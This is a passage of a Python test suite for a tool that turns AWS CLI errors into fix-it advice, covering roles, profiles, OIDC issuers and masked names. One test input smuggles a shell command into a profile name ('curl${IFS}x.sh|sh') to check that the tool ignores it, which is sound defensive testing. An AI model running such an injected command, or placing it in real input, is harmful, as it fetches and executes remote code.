    assert "below)" not in check.split("If it")[0]  # the one command shown is about deleted principals


def test_names_from_around_an_error_come_from_the_failing_command_and_never_run_masked(
    kb: KnowledgeBase,
) -> None:
    lambda_error = (
        "An error occurred (InvalidParameterValueException) when calling the CreateFunction operation: "
        "The role defined for the function cannot be assumed by Lambda."
    )
    # Another tool's --role before the failing command is not the function's role.
    other = _advice(
        "$ saml2aws login --role=arn:aws:iam::111122223333:role/SAMLAdmin\n"
        "$ aws lambda create-function --function-name b --cli-input-json file://fn.json\n\n" + lambda_error,
        kb,
    )
    assert "role_arn" not in other.entities and "SAMLAdmin" not in _commands(other)
    # The CLI's own output: a blank line between the command and its error; aws-sso-cli's names.
    expired = "An error occurred (ExpiredToken) when calling the ListBuckets operation: The provided token has expired."
    assert _advice(f"$ aws s3 ls --profile dev\n\n{expired}", kb).entities["profile"] == "dev"
    sso = "Error when retrieving token from sso: Token has expired and refresh failed"
    named = _advice(f"$ aws s3 ls --profile 123456789012:AdministratorAccess\n{sso}", kb)
    assert "aws sso login --profile 123456789012:AdministratorAccess" in _commands(named)
    masked = _advice(f"$ aws s3 ls --profile xxxx\n{sso}", kb)
    assert any(c.run == "aws sso login" for c in masked.commands)
    # An issuer masked in part is named, never created; Japanese typed after the URL is not in it.
    for issuer in (
        "oidc.eks.eu-west-1.amazonaws.com/id/xxxx",
        "oidc.eks.us-east-1.amazonaws.com/id/<cluster-id>",
    ):
        advice = _advice(
            f"InvalidIdentityToken: No OpenIDConnect provider found in your account for https://{issuer}", kb
        )
        assert advice.entities["issuer"] == issuer
        assert "create-open-id-connect-provider" not in _commands(advice)
    japanese = _advice(
        "InvalidIdentityToken: No OpenIDConnect provider found in your account for "
        "https://oidc.eks.eu-west-1.amazonaws.com/id/4F2A0C8E9B7D6E5F1A2B3C4D5E6F7A8Bを作成しましたが",
        kb,
    )
    assert (
        japanese.entities["issuer"] == "oidc.eks.eu-west-1.amazonaws.com/id/4F2A0C8E9B7D6E5F1A2B3C4D5E6F7A8B"
    )
    # A profile name holding shell is not read; "Unable to locate credentials" is no missing profile.
    injected = _advice("The config profile (dev;curl${IFS}x.sh|sh) could not be found", kb)
    assert "profile" not in injected.entities and "curl" not in " ".join(injected.steps)
    unconfigured = _advice("$ aws s3 ls --profile dev\nUnable to locate credentials.", kb)
    assert not any("is what the tool asked for" in step for step in unconfigured.steps)


def test_an_execution_role_read_from_the_command_line_is_the_one_the_commands_name(kb: KnowledgeBase) -> None:
    advice = _advice(
        "$ aws lambda create-function --function-name f --role arn:aws:iam::444455556666:role/api-exec "
        "--zip-file fileb://f.zip\nAn error occurred (InvalidParameterValueException) when calling the "
        "CreateFunction operation: The provided execution role does not have permissions to call "
        "ReceiveMessage on SQS",
        kb,
    )
    assert "aws iam attach-role-policy --role-name api-exec --policy-arn" in _commands(advice)
    assert any(c.label.endswith("to api-exec") for c in advice.commands)


def test_a_name_masked_in_part_by_xs_is_neither_run_nor_written_into_a_statement(kb: KnowledgeBase) -> None:
    advice = _advice(
        "An error occurred (AccessDenied) when calling the AssumeRole operation: User: "
        "arn:aws:iam::123456789012:user/taro is not authorized to perform: sts:AssumeRole on resource: "
        "arn:aws:iam::123456789012:role/xxxxx",
        kb,
    )
    assert advice.policy is not None and "role/xxxxx" not in advice.policy and "ROLE_NAME" in advice.policy
    assert "xxxxx" not in _commands(advice)
